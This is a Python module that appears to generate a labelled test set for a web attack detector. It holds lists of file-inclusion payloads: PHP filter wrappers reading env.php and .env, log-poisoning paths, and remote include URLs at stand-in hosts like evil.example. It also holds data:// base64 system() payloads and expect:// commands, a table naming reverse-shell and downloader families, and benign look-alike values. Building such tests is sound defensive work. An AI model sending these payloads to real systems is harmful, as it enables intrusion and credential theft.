WRAP_FILE = ["compress.zlib:///etc/passwd", "compress.bzip2://../config.php", "glob:///var/www/html/*.php",
             "phar:///var/www/html/uploads/invoice.pdf/test.txt"]
WRAP_THEME = ["php://filter/read=convert.base64-encode|convert.base64-encode/resource=../../app/etc/env.php",
              "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp"]
WRAP_IMG = ["php://fd/3", "php://filter/convert.base64-encode/resource=/proc/self/environ"]
WRAP_JSONKEY = ["php://filter/read=convert.base64-encode/resource=.env"]
WRAP_DATE = ["php://filter/convert.base64-encode/resource=../../../../var/log/app-2024-05-01.log"]

# log-poisoning-targets: files an attacker can write into first (access / error / mail / ssh logs, sessions,
# /proc/self/fd) and then include (PHP include)
LOG_INCLUDE = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/httpd/access_log",
    "/proc/self/fd/2",
    "../../../../proc/self/fd/10",
    "/var/log/auth.log",
]
LOG_LANG = ["../../../../../var/log/mail.log", "/var/log/vsftpd.log", "/var/lib/php/sessions/sess_5c2d8a1f0e9b4c7d"]
LOG_TEMPLATE = ["../../../../tmp/sess_9f2a7c1e4b6d8f0a", "/var/log/sshd.log", "C:\\xampp\\apache\\logs\\access.log"]
LOG_FILE = [
    "C:\\Program Files\\Apache Group\\Apache2\\logs\\error.log",
    "/usr/local/apache2/logs/access_log",
    "/var/log/nginx/error.log",
    "/opt/lampp/logs/access_log",
    "../../../../../var/mail/www-data",
]
LOG_THEME = ["/var/log/secure", "..\\..\\..\\..\\xampp\\apache\\logs\\error.log"]
LOG_DATE = ["../../../var/log/syslog"]
LOG_IMG = ["/var/log/lighttpd/access.log"]
LOG_VERSION = ["/proc/self/fd/1"]

# restricted-file-extensions: backups, dumps, editor copies and config files asked for by name (file-serving code)
EXT_FILE = [
    "config.php.bak",
    "wp-config.php.old",
    "web.config",
    "database.sql",
    "backup/dump.sql",
    "settings.ini",
    "index.php~",
    ".config.inc.php.swp",
    "site.conf.orig",
    "users.mdb",
    "../application.properties.bak",
    "Web.config.old",
    "prod-2024-05-01.sql",
    "credentials.cfg",
    "server.key",
]
EXT_TEMPLATE = ["../config.php.bak", "../../web.config.bak", "../../php.ini", "app.config"]
EXT_ID = ["../../backup.sql"]
EXT_THEME = ["../../includes/db.inc"]
EXT_DATE = ["2024-05-01.sql"]
EXT_VERSION = ["../../config/secrets.yml.bak"]

# ================================================================================================================
# rfi: the field reaches PHP include() / require() with allow_url_include (or a template / language loader
# that includes a URL); the remote file holds PHP code
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: the remote host is an IP address (dotted, IPv6, decimal, hex)
IP_INCLUDE = [
    "http://203.0.113.9/shell.txt",
    "http://198.51.100.7/c99.txt",
    "https://192.0.2.44/inc/config.inc",
    "http://203.0.113.9:8080/r57.php",
    "http://192.0.2.10/tools/cmd.txt",
    "http://203.0.113.77/payload.php",
    "http://198.51.100.5:81/k.gif",
    "http://[2001:db8::1]/shell.txt",
    "http://3405803785/s.txt",
    "http://0xcb007109/s.txt",
    "https://203.0.113.9/.x/i.txt",
    "http://198.51.100.99/~user/inc.php",
    "http://192.0.2.33/shell.jpg",
    "http://203.0.113.9:443/index.txt",
    "http://198.51.100.7/cmd.txt&cmd=id",
]
# avatar / website / webhook URL (a loader that includes what it fetched)
IP_URL = ["http://203.0.113.9/avatar.php", "https://198.51.100.7/theme/header.inc",
          "http://192.0.2.200/wp-content/plugins/x/shell.txt", "http://203.0.113.12/hook.txt"]
# language file URL, template URL, theme URL, image path URL, attachment id (PHP include)
IP_LANG = ["http://203.0.113.9/lang/en.php", "http://198.51.100.7/en.txt", "http://192.0.2.44:8000/fr_FR.inc"]
IP_TEMPLATE = ["http://203.0.113.9/templates/main.tpl", "https://198.51.100.7:8443/t/default.php",
               "http://192.0.2.5/layout.html"]
IP_THEME = ["http://203.0.113.9/skins/dark/style.php", "http://198.51.100.7/theme.txt"]
IP_IMG = ["http://203.0.113.9/img/1.php", "http://198.51.100.7/pixel.gif.php"]
IP_ID = ["http://203.0.113.9/42.txt"]
IP_FILE = ["http://192.0.2.9/export.txt", "http://198.51.100.3/docs/readme.php"]

# url-with-trailing-question-mark: "?" turns the suffix the code appends (".php", "/header.php") into a query
Q_INCLUDE = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/c99.txt?",
    "http://pastebin.com/raw/Xk9aB2cd?",
    "http://203.0.113.9/x.txt?",
    "https://raw.githubusercontent.com/attacker/tools/main/r57.txt?",
    "http://evil.example/inc.php??",
    "http://evil.example/s.txt?=",
    "http://evil.example/s.txt?&",
    "http://evil.example:8080/payload.txt?",
    "http://evil.example/?",
    "https://evil.example/shell?",
    "http://evil.example/wso.txt?x=",
]
Q_LANG = ["http://evil.example/lang/en.php?", "https://cdn.attacker.example/i18n/de.txt?", "http://198.51.100.7/fr.txt?"]
Q_TEMPLATE = ["http://evil.example/tpl/header.txt?", "https://attacker.example/templates/default.php?",
              "http://192.0.2.44/main.tpl?"]
Q_THEME = ["http://evil.example/themes/dark.txt?", "https://attacker.example/skin.php?"]
Q_URL = ["http://evil.example/avatar.txt?", "https://attacker.example/webhook.php?", "http://evil.example/callback.txt?"]
Q_IMG = ["http://evil.example/img/logo.png.txt?", "https://attacker.example/pixel.gif?"]
Q_FILE = ["http://evil.example/docs/readme.txt?", "https://attacker.example/export.csv?"]
Q_ID = ["http://evil.example/items/42.txt?"]
Q_CURRENCY = ["http://evil.example/rates/EUR.php?"]
Q_DATE = ["http://evil.example/archive/2024-05-01.txt?"]
Q_VERSION = ["http://evil.example/updates/1.2.3.txt?"]

# include-parameter-with-url: a URL in the page / file / template / include / path / inc / module parameter
INC_INCLUDE = [
    "http://evil.example/shell.txt",
    "https://attacker.example/backdoor.php",
    "http://evil.example/c.txt",
    "https://evil.example/inc/header.inc",
    "http://attacker.example/tools/wso.txt",
    "https://pastebin.com/raw/4fGh7JkL",
    "https://raw.githubusercontent.com/attacker/x/main/s.php",
    "http://evil.example/mod/index.txt",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT",
    "hTtP://evil.example/s.txt",
    "http://evil.example/s.txt%00",
    "https://evil.example:8443/a/b/c.php",
    "http://user:pass@evil.example/s.txt",
    "http://evil.example/s.txt#",
    "http://evil.example/s.txt%23",
    "https://gist.githubusercontent.com/attacker/abc123/raw/s.php",
    "http://evil.example/shell.php.txt",
    "http://evil.example/shell.jpg",
    "https://attacker.example/r57.txt",
    "http://evil.example/config/settings.inc",
    "https://attacker.example/modules/admin.txt",
    "http://evil.example/b374k.txt",
]
INC_TEMPLATE = ["https://attacker.example/templates/admin.php", "http://evil.example/views/layout.phtml",
                "http://evil.example/tpl/footer.txt"]
INC_THEME = ["http://evil.example/themes/x/functions.txt", "https://attacker.example/skins/blue/index.txt"]
INC_LANG = ["http://evil.example/languages/en.txt", "https://attacker.example/locale/de_DE.php",
            "http://evil.example/i18n/es.inc"]
INC_IMG = ["http://evil.example/img/header.txt", "https://attacker.example/thumbs/t.php"]

# off-domain-reference: an off-site link (scheme-relative, look-alike host, userinfo tricks) in a typed URL field
# that the back end includes or loads
OFF_URL = [
    "//evil.example/shell.txt",
    "https://evil.example/x.php",
    "http://attacker.example/avatar.txt",
    "https://app.example.com.evil.example/inc.php",
    "http://example.com@evil.example/s.txt",
    "https://evil.example\\@app.example.com/s.txt",
    "https://files.attacker.example/a.php",
    "http://cdn-evil.example/r.inc",
    "https://xn--exmple-cua.com/shell.txt",
    "//attacker.example/hook.php",
    "http://evil.example/index.txt#app.example.com",
    "https://evil.example/%2e%2e/shell.txt",
]
OFF_INCLUDE = [
    "//evil.example/inc/header.txt",
    "https://storage.attacker.example/p/s.php",
    "http://evil-cdn.example/lib.inc",
    "https://attacker.example/x/y/z.txt",
    "http://evil.example./shell.txt",
    "https://EVIL.example/Shell.TXT",
    "http://evil.example:80/cmd.txt",
    "//evil.example:8080/k.php",
]
OFF_TEMPLATE = ["//evil.example/templates/main.php", "https://attacker.example/tpl/mail.txt",
                "http://evil.example/views/home.inc"]
OFF_LANG = ["//attacker.example/lang/en.txt", "https://evil.example/locale/fr.php"]
OFF_THEME = ["//evil.example/skins/dark.php", "https://attacker.example/theme/style.txt"]
OFF_IMG = ["//evil.example/img/a.gif.php", "https://attacker.example/i/avatar.txt"]
OFF_FILE = ["//evil.example/files/doc.txt", "https://attacker.example/downloads/r.php",
            "http://evil.example/export/data.inc"]

# protocols: other schemes and carriers (ftp, smb, UNC and WebDAV paths, data:, expect:, ssh2, zip in Java jar:)
PROTO_INCLUDE = [
    "ftp://203.0.113.9/shell.txt",
    "ftp://anonymous:guest@evil.example/pub/s.php",
    "ftps://evil.example/x.txt",
    "smb://evil.example/share/shell.php",
    "\\\\203.0.113.9\\share\\shell.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
    "\\\\evil.example@80\\webdav\\x.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "data:text/plain,<?php phpinfo();?>",
    "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "expect://id",
    "expect://ls -la",
    "ssh2.exec://user:pass@evil.example:22/id",
    "ssh2.sftp://user:pass@evil.example:22/tmp/s.php",
    "file://evil.example/share/s.php",
    "\\\\?\\UNC\\evil.example\\share\\s.php",
    "file:////evil.example/share/s.php",
]
PROTO_TEMPLATE = ["jar:https://evil.example/t.zip!/index.jsp", "ftp://evil.example/templates/main.tpl",
                  "data:text/plain;base64,PD89YGlkYDs/Pg=="]
PROTO_LANG = ["ftp://198.51.100.7/lang/en.php", "\\\\evil.example\\lang\\en.php", "expect://whoami"]
PROTO_THEME = ["smb://203.0.113.9/themes/dark.php", "\\\\203.0.113.9@8080\\skins\\x.php"]
PROTO_URL = ["gopher://evil.example:70/_GET%20/s.txt", "netdoc:///etc/passwd",
             "jar:http://evil.example/x.jar!/x.class", "dict://evil.example:11111/x"]
PROTO_FILE = ["tftp://evil.example/s.php", "sftp://evil.example/uploads/s.php", "ftp://evil.example/docs/readme.txt"]

# ----------------------------------------------------------------------------------------------------------------
# (category, sub, field, payloads)
FAMILIES: list[tuple[str, str, str, list[str]]] = [
    ("rce", "unix-command-injection", "hostname", CMDI_HOST),
    ("rce", "unix-command-injection", "email", CMDI_EMAIL),
    ("rce", "unix-command-injection", "phone", CMDI_PHONE),
    ("rce", "unix-command-injection", "filename", CMDI_FILE),
    ("rce", "unix-command-injection", "date", CMDI_DATE),
    ("rce", "unix-command-injection", "version", CMDI_VERSION),
    ("rce", "unix-shell-expression-evasion", "hostname", EVASION_HOST),
    ("rce", "unix-shell-expression-evasion", "email", EVASION_EMAIL),
    ("rce", "unix-shell-expression-evasion", "filename", EVASION_FILE),
    ("rce", "unix-shell-expression-evasion", "version", EVASION_VERSION),
    ("rce", "unix-shell-expression-evasion", "colour", EVASION_COLOUR),
    ("rce", "unix-shell-expression-evasion", "postcode", EVASION_POSTCODE),
    ("rce", "unix-shell-expression-evasion", "date", EVASION_DATE),
    ("rce", "unix-shell-expression-evasion", "phone", EVASION_PHONE),
    ("rce", "windows-cmd-injection", "hostname", WIN_HOST),
    ("rce", "windows-cmd-injection", "email", WIN_EMAIL),
    ("rce", "windows-cmd-injection", "filename", WIN_FILE),
    ("rce", "windows-cmd-injection", "date", WIN_DATE),
    ("rce", "windows-cmd-injection", "version", WIN_VERSION),
    ("rce", "windows-cmd-injection", "phone", WIN_PHONE),
    ("rce", "powershell", "hostname", PS_HOST),
    ("rce", "powershell", "email", PS_EMAIL),
    ("rce", "powershell", "filename", PS_FILE),
    ("rce", "powershell", "date", PS_DATE),
    ("rce", "powershell", "version", PS_VERSION),
    ("rce", "powershell", "currency", PS_CURRENCY),
    ("rce", "powershell", "time", PS_TIME),
    ("rce", "powershell", "id", PS_ID),
    ("rce", "unix-command-names-with-paths", "hostname", PATHS_HOST),
    ("rce", "unix-command-names-with-paths", "email", PATHS_EMAIL),
    ("rce", "unix-command-names-with-paths", "filename", PATHS_FILE),
    ("rce", "unix-command-names-with-paths", "date", PATHS_DATE),
    ("rce", "unix-command-names-with-paths", "version", PATHS_VERSION),
    ("rce", "unix-command-names-with-paths", "phone", PATHS_PHONE),
    ("rce", "unix-command-names-with-paths", "colour", PATHS_COLOUR),
    ("rce", "unix-command-names-with-paths", "id", PATHS_ID),
    ("rce", "unix-command-names-with-paths", "postcode", PATHS_POSTCODE),
    ("rce", "reverse-shells", "hostname", REV_HOST),
    ("rce", "reverse-shells", "email", REV_EMAIL),
    ("rce", "reverse-shells", "filename", REV_FILE),
    ("rce", "reverse-shells", "date", REV_DATE),
    ("rce", "reverse-shells", "version", REV_VERSION),
    ("rce", "reverse-shells", "phone", REV_PHONE),
    ("rce", "reverse-shells", "id", REV_ID),
    ("rce", "reverse-shells", "postcode", REV_POSTCODE),
    ("rce", "reverse-shells", "colour", REV_COLOUR),
    ("rce", "shellshock", "useragent", SHOCK_UA),
    ("rce", "shellshock", "referer", SHOCK_REFERER),
    ("rce", "shellshock", "langheader", SHOCK_LANG),
    ("rce", "shellshock", "fromheader", SHOCK_FROM),
    ("rce", "shellshock", "versionheader", SHOCK_VERSION),
    ("rce", "shellshock", "cookieheader", SHOCK_COOKIE),
    ("rce", "downloaders", "hostname", DL_HOST),
    ("rce", "downloaders", "url", DL_URL),
    ("rce", "downloaders", "email", DL_EMAIL),
    ("rce", "downloaders", "filename", DL_FILE),
    ("rce", "downloaders", "version", DL_VERSION),
    ("rce", "downloaders", "date", DL_DATE),
    ("rce", "downloaders", "id", DL_ID),
    ("rce", "downloaders", "phone", DL_PHONE),
    ("rce", "file-write-via-shell", "filename", FW_FILE),
    ("rce", "file-write-via-shell", "hostname", FW_HOST),
    ("rce", "file-write-via-shell", "email", FW_EMAIL),
    ("rce", "file-write-via-shell", "version", FW_VERSION),
    ("rce", "file-write-via-shell", "date", FW_DATE),
    ("rce", "file-write-via-shell", "id", FW_ID),
    ("rce", "file-write-via-shell", "colour", FW_COLOUR),
    ("rce", "file-write-via-shell", "postcode", FW_POSTCODE),
    ("rce", "file-write-via-shell", "phone", FW_PHONE),
    ("rce", "restricted-file-names-in-commands", "hostname", RF_HOST),
    ("rce", "restricted-file-names-in-commands", "email", RF_EMAIL),
    ("rce", "restricted-file-names-in-commands", "filename", RF_FILE),
    ("rce", "restricted-file-names-in-commands", "version", RF_VERSION),
    ("rce", "restricted-file-names-in-commands", "date", RF_DATE),
    ("rce", "restricted-file-names-in-commands", "id", RF_ID),
    ("rce", "restricted-file-names-in-commands", "phone", RF_PHONE),
    ("rce", "restricted-file-names-in-commands", "colour", RF_COLOUR),
    ("rce", "restricted-file-names-in-commands", "postcode", RF_POSTCODE),
    ("lfi", "path-traversal", "filename", TRAV_FILE),
    ("lfi", "path-traversal", "lang", TRAV_LANG),
    ("lfi", "path-traversal", "template", TRAV_TEMPLATE),
    ("lfi", "path-traversal", "imgpath", TRAV_IMG),
    ("lfi", "path-traversal", "date", TRAV_DATE),
    ("lfi", "path-traversal", "id", TRAV_ID),
    ("lfi", "path-traversal", "currency", TRAV_CURRENCY),
    ("lfi", "os-file-access", "filename", OSF_FILE),
    ("lfi", "os-file-access", "lang", OSF_LANG),
    ("lfi", "os-file-access", "template", OSF_TEMPLATE),
    ("lfi", "os-file-access", "theme", OSF_THEME),
    ("lfi", "os-file-access", "imgpath", OSF_IMG),
    ("lfi", "os-file-access", "jsonkey", OSF_JSONKEY),
    ("lfi", "os-file-access", "version", OSF_VERSION),
    ("lfi", "absolute-paths", "filename", ABS_FILE),
    ("lfi", "absolute-paths", "template", ABS_TEMPLATE),
    ("lfi", "absolute-paths", "lang", ABS_LANG),
    ("lfi", "absolute-paths", "theme", ABS_THEME),
    ("lfi", "absolute-paths", "imgpath", ABS_IMG),
    ("lfi", "absolute-paths", "jsonkey", ABS_JSONKEY),
    ("lfi", "absolute-paths", "id", ABS_ID),
    ("lfi", "absolute-paths", "date", ABS_DATE),
    ("lfi", "absolute-paths", "currency", ABS_CURRENCY),
    ("lfi", "null-byte-truncation", "filename", NUL_FILE),
    ("lfi", "null-byte-truncation", "lang", NUL_LANG),
    ("lfi", "null-byte-truncation", "template", NUL_TEMPLATE),
    ("lfi", "null-byte-truncation", "theme", NUL_THEME),
    ("lfi", "null-byte-truncation", "imgpath", NUL_IMG),
    ("lfi", "null-byte-truncation", "date", NUL_DATE),
    ("lfi", "null-byte-truncation", "currency", NUL_CURRENCY),
    ("lfi", "php-wrapper-lfi", "include", WRAP_INCLUDE),
    ("lfi", "php-wrapper-lfi", "lang", WRAP_LANG),
    ("lfi", "php-wrapper-lfi", "template", WRAP_TEMPLATE),
    ("lfi", "php-wrapper-lfi", "filename", WRAP_FILE),
    ("lfi", "php-wrapper-lfi", "theme", WRAP_THEME),
    ("lfi", "php-wrapper-lfi", "imgpath", WRAP_IMG),
    ("lfi", "php-wrapper-lfi", "jsonkey", WRAP_JSONKEY),
    ("lfi", "php-wrapper-lfi", "date", WRAP_DATE),
    ("lfi", "log-poisoning-targets", "include", LOG_INCLUDE),
    ("lfi", "log-poisoning-targets", "lang", LOG_LANG),
    ("lfi", "log-poisoning-targets", "template", LOG_TEMPLATE),
    ("lfi", "log-poisoning-targets", "filename", LOG_FILE),
    ("lfi", "log-poisoning-targets", "theme", LOG_THEME),
    ("lfi", "log-poisoning-targets", "date", LOG_DATE),
    ("lfi", "log-poisoning-targets", "imgpath", LOG_IMG),
    ("lfi", "log-poisoning-targets", "version", LOG_VERSION),
    ("lfi", "restricted-file-extensions", "filename", EXT_FILE),
    ("lfi", "restricted-file-extensions", "template", EXT_TEMPLATE),
    ("lfi", "restricted-file-extensions", "id", EXT_ID),
    ("lfi", "restricted-file-extensions", "theme", EXT_THEME),
    ("lfi", "restricted-file-extensions", "date", EXT_DATE),
    ("lfi", "restricted-file-extensions", "version", EXT_VERSION),
    ("rfi", "url-with-ip-address", "include", IP_INCLUDE),
    ("rfi", "url-with-ip-address", "url", IP_URL),
    ("rfi", "url-with-ip-address", "lang", IP_LANG),
    ("rfi", "url-with-ip-address", "template", IP_TEMPLATE),
    ("rfi", "url-with-ip-address", "theme", IP_THEME),
    ("rfi", "url-with-ip-address", "imgpath", IP_IMG),
    ("rfi", "url-with-ip-address", "id", IP_ID),
    ("rfi", "url-with-ip-address", "filename", IP_FILE),
    ("rfi", "url-with-trailing-question-mark", "include", Q_INCLUDE),
    ("rfi", "url-with-trailing-question-mark", "lang", Q_LANG),
    ("rfi", "url-with-trailing-question-mark", "template", Q_TEMPLATE),
    ("rfi", "url-with-trailing-question-mark", "theme", Q_THEME),
    ("rfi", "url-with-trailing-question-mark", "url", Q_URL),
    ("rfi", "url-with-trailing-question-mark", "imgpath", Q_IMG),
    ("rfi", "url-with-trailing-question-mark", "filename", Q_FILE),
    ("rfi", "url-with-trailing-question-mark", "id", Q_ID),
    ("rfi", "url-with-trailing-question-mark", "currency", Q_CURRENCY),
    ("rfi", "url-with-trailing-question-mark", "date", Q_DATE),
    ("rfi", "url-with-trailing-question-mark", "version", Q_VERSION),
    ("rfi", "include-parameter-with-url", "include", INC_INCLUDE),
    ("rfi", "include-parameter-with-url", "template", INC_TEMPLATE),
    ("rfi", "include-parameter-with-url", "theme", INC_THEME),
    ("rfi", "include-parameter-with-url", "lang", INC_LANG),
    ("rfi", "include-parameter-with-url", "imgpath", INC_IMG),
    ("rfi", "off-domain-reference", "url", OFF_URL),
    ("rfi", "off-domain-reference", "include", OFF_INCLUDE),
    ("rfi", "off-domain-reference", "template", OFF_TEMPLATE),
    ("rfi", "off-domain-reference", "lang", OFF_LANG),
    ("rfi", "off-domain-reference", "theme", OFF_THEME),
    ("rfi", "off-domain-reference", "imgpath", OFF_IMG),
    ("rfi", "off-domain-reference", "filename", OFF_FILE),
    ("rfi", "protocols", "include", PROTO_INCLUDE),
    ("rfi", "protocols", "template", PROTO_TEMPLATE),
    ("rfi", "protocols", "lang", PROTO_LANG),
    ("rfi", "protocols", "theme", PROTO_THEME),
    ("rfi", "protocols", "url", PROTO_URL),
    ("rfi", "protocols", "filename", PROTO_FILE),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
ONE_LINE = {"header", "cookie", "multipart-filename", "path"}


def _enc(value: str, safe: str = "") -> str:
    return urllib.parse.quote(value.encode(), safe=safe)


def _nested(name: str, value: Any) -> dict[str, Any]:
    """`settings.phone` -> {"settings": {"phone": value}}."""
    head, _, rest = name.partition(".")
    return {head: _nested(rest, value) if rest else value}


class _Set(BlindSet):
    """Bodies and benign records; this set's placements are its own (_build)."""

    prefix = NAME
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


SET = _Set()
MULTIPART = SET.multipart_type


def _xml(root: str, name: str, value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'


def _build(place: str, route: str, name: str, v: str) -> dict[str, Any]:
    """One request: `place` (real, or "rs-" for the regression-suite copy), the route, the parameter name."""
    rs = place.startswith("rs-")
    kind = place[3:] if rs else place
    if kind == "query":
        extra = "&page=1" if route == "/api/users" and not rs else ""
        return request("GET", route + "?" + name + "=" + _enc(v) + extra)
    if kind == "form":
        csrf = "" if rs else "csrf_token=t0k3n&"
        return request("POST", route, csrf + name + "=" + _enc(v), FORM)
    if kind in ("json", "json-key"):
        method = "POST"
        if route.startswith("/api/users/"):
            method = "PATCH"
        elif route.startswith("/api/switches/"):
            method = "PUT"
        doc: dict[str, Any] = _nested(name, v) if kind == "json" else {name: {v: True}}
        if route == "/api/switches/weather":
            doc["enabled"] = True
        return request(method, route, json.dumps(doc, ensure_ascii=False), "application/json")
    if kind == "cookie":
        session = "" if rs else "session=abc123; "
        return request("GET", route, Cookie=session + name + "=" + _enc(v, COOKIE_SAFE))
    if kind == "header":
        return request("GET", route, **{name: v})
    if kind == "multipart-field":
        parts: list[tuple[str, str, str | None]] = [] if rs else [("csrf_token", "t0k3n", None)]
        return request("POST", route, SET.multipart([*parts, (name, v, None)]), MULTIPART)
    if kind == "multipart-filename":
        parts = [] if rs else [("csrf_token", "t0k3n", None)]
        body = SET.multipart([*parts, (name, "name,email\nAnn,ann@example.org\n", v)])
        return request("POST", route, body, MULTIPART)
    if kind == "xml":
        return request("POST", route, _xml("root" if rs else "user", name, v), "application/xml")
    if kind == "path":
        return request("GET", route + _enc(v))
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    kind = place.removeprefix("rs-")
    if kind in ONE_LINE:
        return header_safe(v) and (kind != "path" or len(v) < 400)
    if kind in ("xml", "multipart-field"):
        return "\x00" not in v
    return True


def _pick(specs: list[Spec], start: int, v: str) -> Spec:
    """The field's placement at `start` in its cycle, or the next one that can carry the value."""
    for k in range(len(specs)):
        spec = specs[(start + k) % len(specs)]
        if _fits(spec[0], v):
            return spec
    raise ValueError(v)


def _placed(field: str, i: int, v: str) -> list[tuple[str, dict[str, Any]]]:
    real_specs, rs_specs = FIELDS[field]
    out = []
    for specs, start in ((real_specs, i), (rs_specs, i + i // len(real_specs))):
        place, route, name = _pick(specs, start, v)
        out.append((place, _build(place, route, name, v)))
    return out


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    seen: set[str] = set()
    counters: dict[str, int] = {}
    for category, sub, field, payloads in FAMILIES:
        for payload in payloads:
            if payload in seen:
                raise ValueError("duplicate payload: " + payload)
            seen.add(payload)
            i = counters.get(field, 0)
            counters[field] = i + 1
            for place, rec in _placed(field, i, payload):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ================================================================================================================
# Benign: realistic values of the same typed fields, sent to the same places; then chat, bios and searches
TYPED: dict[str, list[str]] = {
    "email": [
        "anna.kowalska@example.pl", "john.o'brien@example.ie", "mary+billing@example.com",
        "d'angelo.marco@example.it", "first.last+newsletter@sub.example.co.uk", "support@example.org",
        "Jean-Luc.Picard@example.fr", "x_y-z@example.io", "o'neil@example.com", "ops-team+alerts@example.com",
        "zoë.müller@example.de",
    ],
    "name": [
        "O'Brien", "D'Angelo", "Siobhán O'Neill", "María José García-López", "Zoë D'Souza", "Nguyễn Văn An",
        "Smith & Sons", "Dr. K. O'Hara (Ops)", "Jean-Luc d'Artagnan", "Ng Wei Ling",
    ],
    "date": [
        "2024-05-01", "01/05/2024", "05/01/2024", "May 1, 2024", "2024-05-01T09:30:00Z",
        "2024-05-01T09:30:00+02:00", "1 May 2024", "Thu, 02 May 2024 09:30:00 GMT", "2024-W18", "20240501",
    ],
    "time": ["09:30", "9:30 PM", "21:45:00", "07:00 am", "12:00"],
    "timezone": ["Europe/London", "America/Argentina/Buenos_Aires", "Asia/Kolkata", "UTC", "America/St_Johns"],
    "price": [
        "$1,299.00", "€12,50", "£7.99", "¥1200", "19.99 USD", "-5.00", "1.5 kg", "12 x 250 ml", "3",
        "CHF 1'250.00", "R$ 49,90",
    ],
    "id": [
        "42", "U024BE7LH", "T0123ABCD", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e", "ORD-2024-000123",
        "550e8400-e29b-41d4-a716-446655440000", "INV/2024/0042",
    ],
    "sort": ["-created_at", "name", "+updated_at", "last_name,first_name", "created_at desc", "-score,name"],
    "page": ["2", "50", "100", "0", "25"],
    "lang": ["en-GB", "pt_BR", "zh-Hant-TW", "de", "fr-CA"],
    "currency": ["EUR", "USD", "GBP", "JPY", "CHF"],
    "filename": [
        "Q1 report (final).pdf", "résumé – Zoë.docx", "photo [1].jpg", "my notes #2.txt", "O'Brien contract.pdf",
        "IMG_20240501_093015.HEIC", "budget 2024-25 v3.xlsx", "Meeting notes & actions.md", "logo@2x.png",
        "archive.tar.gz", "Präsentation {draft}.pptx",
    ],
    "hostname": [
        "api.example.com", "db-01.internal.example.net", "mail.example.co.uk", "localhost:8080", "10.0.0.12",
        "xn--mnchen-3ya.de", "my-service.default.svc.cluster.local",
    ],
    "url": [
        "https://www.example.com/about?ref=newsletter&utm_source=mail",
        "https://calendar.example.com/event?id=42&tz=Europe%2FLondon",
        "https://example.org/blog/2024/05/01/release-notes/",
        "https://github.com/acme/widgets/pull/1234#discussion_r99",
        "https://hooks.example.com/services/T000/B000/XXXX",
        "http://localhost:3000/callback",
        "https://cdn.example.com/img/avatar.png?v=3",
    ],
    "version": ["1.2.3", "v2.0.0-rc.1", "2024.05", "1.0.0+build.42", "3.11.9", "17.0.10"],
    "colour": ["#ff8800", "rgb(255, 136, 0)", "hsl(210 50% 40%)", "rebeccapurple", "#0af", "rgba(0,0,0,0.5)"],
    "postcode": ["SW1A 1AA", "90210", "10115", "75008", "M5V 3L9", "2000", "100-0001", "D02 X285", "1012 AB"],
    "phone": ["+1 (415) 555-0123", "+44 20 7946 0958", "020 7946 0958 ext. 12", "+49 30 901820",
              "(555) 010-0199 x3", "+81-3-1234-5678"],
    "include": ["about", "contact-us", "help/getting-started", "reports/2024/q1", "pricing"],
    "template": ["welcome_email", "invoice-v2", "default", "password-reset"],
    "theme": ["dark", "solarized-light", "high-contrast"],
    "imgpath": ["avatars/42.png", "uploads/2024/05/team photo.jpg", "img/logo@2x.png"],
    "jsonkey": ["first_name", "address.line1", "tags[0]", "notify_on_mention"],
    "useragent": [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        "Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1",
        "curl/8.5.0", "python-requests/2.31.0", "Slackbot 1.0 (+https://api.slack.com/robots)",
        "Wget/1.21.4",
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
    ],
    "langheader": ["fr-CA,fr;q=0.9,en;q=0.8", "en-US,en;q=0.5"],
    "referer": ["https://app.example.com/admin/users?page=2&sort=-created_at"],
}

CHAT = [
    "ping me when the deploy is done, I'll cat the logs after lunch",
    "can someone run ls -la on the shared drive? the export folder looks empty",
    "the include path in the docs points to ../common/partials, is that right?",
    "I set my timezone to Europe/London and alert time to 07:30 but got the alert at 08:30",
    "reminder: backups now run nightly at 02:00 UTC, restore tests on Fridays",
    "the password reset email went to spam for Mr O'Brien again",
    "bash or zsh? I switched to fish last week and I'm not going back",
    "the curl example in the README is missing the auth header for the token",
    "who owns the PowerShell script that rotates the IIS logs?",
    "I renamed the file to 'Q1 report (final).pdf', hope that's ok",
    "the page param on the admin list is 1-based, fyi",
    "set the theme colour to #ff8800 for the launch please",
    "D'Angelo's postcode is SW1A 1AA, updated the profile",
    "use wget -c if the download keeps dropping",
    "the windows box needs ipconfig /flushdns after the DNS change",
    "can we sort by -created_at by default? nobody wants oldest first",
    "the welcome email template lives in templates/welcome.html",
    "the smb share for the design team is back up",
    "tail the nginx access log while I hit the endpoint",
    "moved the cron job to 03:15, it was clashing with the backup",
    "price shows as €12,50 for German users and $13.49 for US, looks right",
    "the order id format is ORD-2024-000123, the old one had no year",
]

SEARCHES = [
    "O'Brien", "D'Angelo", "Smith & Sons", "García-López", "+44 20 7946", "ORD-2024-000123", "@example.ie",
    "mary+billing", "Shell", "Cat", "Ping", "Tee", "Nguyen", "van der Berg", "d'Souza", "2024-05-01",
    "o'neil@example.com", "Zoë", "Jean-Luc", "Perl",
]


